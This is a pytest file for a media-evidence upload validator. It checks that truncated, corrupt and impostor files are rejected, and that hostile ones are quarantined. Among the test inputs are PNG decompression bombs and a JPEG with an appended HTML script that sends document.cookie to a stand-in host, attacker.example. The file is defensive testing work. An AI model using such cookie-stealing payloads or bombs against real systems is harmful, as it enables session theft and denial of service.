"""Broken and hostile files end as ProbeFailed with a reason; hostile ones are quarantined."""

import io
import zipfile

import pytest
from PIL import Image

from casework.evidence.processing import ProbeFailed, classify, probe_media
from casework.evidence.samples import write_jpeg


def probe_bytes(content: bytes, tmp_path, derived_dir, name: str = "upload"):
    path = tmp_path / name
    path.write_bytes(content)
    mime, kind = classify(content[:8192])
    return probe_media(str(path), kind=kind, mime=mime, derived_dir=str(derived_dir))


@pytest.fixture
def jpeg(tmp_path) -> bytes:
    return write_jpeg(tmp_path / "genuine.jpg", seed=3).read_bytes()


def test_truncated_jpeg_fails_without_quarantine(jpeg, tmp_path, derived_dir):
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(jpeg[: len(jpeg) // 2], tmp_path, derived_dir)
    assert failure.value.code == "truncated" and not failure.value.quarantine
    assert failure.value.reason.startswith("The file is truncated or damaged and cannot be decoded completely (")


def test_corrupt_mp4_fails_with_a_reason(tmp_path, derived_dir):
    corrupt = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x13" * 4000
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(corrupt, tmp_path, derived_dir)
    assert failure.value.code == "not_readable_media" and not failure.value.quarantine
    assert failure.value.reason.startswith("The file is not a readable video (")


def test_decompression_bomb_is_quarantined_before_it_is_decoded(tmp_path, derived_dir):
    bomb = io.BytesIO()
    Image.new("1", (30000, 30000)).save(bomb, "PNG")  # 900 Mpx in about 100 KB
    assert len(bomb.getvalue()) < 200_000
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(bomb.getvalue(), tmp_path, derived_dir)
    assert failure.value.code == "decompression_bomb" and failure.value.quarantine
    assert "900000000 pixels" in failure.value.reason
    assert list(derived_dir.iterdir()) == []


def test_image_just_over_the_pixel_limit_is_a_bomb_too(tmp_path, derived_dir):
    # Pillow only warns between MAX_IMAGE_PIXELS and twice that; the warning must stop it as well.
    bomb = io.BytesIO()
    Image.new("1", (16000, 14000)).save(bomb, "PNG")  # 224 Mpx
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(bomb.getvalue(), tmp_path, derived_dir)
    assert failure.value.code == "decompression_bomb" and failure.value.quarantine


def test_jpeg_with_a_zip_appended_is_quarantined(jpeg, tmp_path, derived_dir):
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as hidden:
        hidden.writestr("names-of-witnesses.txt", "hidden payload")
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(jpeg + archive.getvalue(), tmp_path, derived_dir)
    assert failure.value.code == "archive_inside" and failure.value.quarantine
    assert "1 archived files" in failure.value.reason


def test_jpeg_with_a_script_after_its_end_marker_is_quarantined(jpeg, tmp_path, derived_dir):
    payload = b"<html><script>document.location='https://attacker.example/'+document.cookie</script></html>"
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(jpeg + payload, tmp_path, derived_dir)
    assert failure.value.code == "appended_data" and failure.value.quarantine
    assert failure.value.reason.startswith(f"{len(payload)} bytes of other data (text/html) follow the end")


def test_jpeg_padded_with_zeros_is_accepted(jpeg, tmp_path, derived_dir):
    result = probe_bytes(jpeg + b"\x00" * 4096, tmp_path, derived_dir)
    assert result.thumbnail_written and (result.width, result.height) == (960, 720)


def test_file_that_sniffs_as_jpeg_but_is_not_one_is_quarantined(tmp_path, derived_dir):
    impostor = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"this is not image data at all " * 50
    with pytest.raises(ProbeFailed) as failure:
        probe_bytes(impostor, tmp_path, derived_dir)
    assert failure.value.code == "not_decodable" and failure.value.quarantine
    assert failure.value.reason.startswith("The file claims to be image/jpeg but cannot be decoded as one")
